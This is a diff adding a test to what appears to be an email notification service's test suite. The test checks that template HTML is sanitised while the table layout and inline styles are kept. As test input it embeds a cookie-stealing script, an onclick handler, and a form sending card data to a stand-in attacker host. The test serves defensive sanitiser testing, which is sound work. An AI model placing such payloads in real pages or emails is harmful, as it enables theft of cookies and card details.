@@ -270,6 +270,30 @@ def test_E3_smtp_never_accepting_fails_after_bounded_attempts_with_the_reason(sy
     assert sink.messages(rcpt=rcpt) == []
 
 
+def test_E1_E4_a_templates_html_is_sent_sanitised_with_its_layout_kept(system, api):
+    """A tenant's template (or a producer's HTML) is sanitised before it is stored and sent: what would
+    run or submit in a mail client is gone, the table layout and inline styles email relies on stay."""
+    sink = Sink(system)
+    saved = api.put("/v1/notification-templates/styled", json={
+        "channel": "email", "subject": "Invoice {{ number }}", "variables": {"number": "F-1"},
+        "body_html": '<table width="600" cellpadding="4"><tr><td style="color:#333333;position:fixed">'
+                     'Invoice {{ number }} <a href="https://pay.acme.example/{{ number }}" onclick="steal()">Pay</a>'
+                     '</td></tr></table><script>steal(document.cookie)</script>'
+                     '<form action="https://evil.example/card"><input name="card"></form>'})
+    assert saved.status_code == 200, saved.text
+    key = uuid.uuid4().hex
+    request_notification(system, api.tenant_id, **_email(api, key, content=None, template="styled",
+                                                          variables={"number": "F-7"}))
+    wait_for(lambda: len(sink.messages(rcpt="client@dupont.example", brief=False)) > 0
+             and any("F-7" in (m["body_html"] or "") for m in sink.messages(rcpt="client@dupont.example")))
+    html = next(m["body_html"] for m in sink.messages(rcpt="client@dupont.example") if "F-7" in (m["body_html"] or ""))
+    assert "<script" not in html and "steal" not in html and "<form" not in html and "position" not in html
+    assert '<table width="600" cellpadding="4">' in html and 'style="color:#333333"' in html
+    link = re.search(r'href="[^"]*(/v1/t/c/[^"]+)"', html).group(1)
+    resp = httpx.Client(base_url=system.base_url).get(link, follow_redirects=False)
+    assert resp.status_code == 302 and resp.headers["location"] == "https://pay.acme.example/F-7"
+
+
 def test_bad_input_is_refused_with_a_clear_reason_and_sends_nothing(system, api):
     sink = Sink(system)
     ok = api.put("/v1/notification-templates/reminder", json={
